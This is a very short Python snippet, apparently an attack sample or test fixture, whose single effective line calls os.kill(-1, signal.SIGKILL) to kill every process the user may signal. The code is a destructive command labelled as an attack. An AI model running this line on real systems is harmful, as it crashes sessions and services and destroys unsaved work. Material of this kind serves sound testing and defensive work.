# Sends SIGKILL to every process that it may.
# %% attack
import os
import signal

os.kill(-1, signal.SIGKILL)
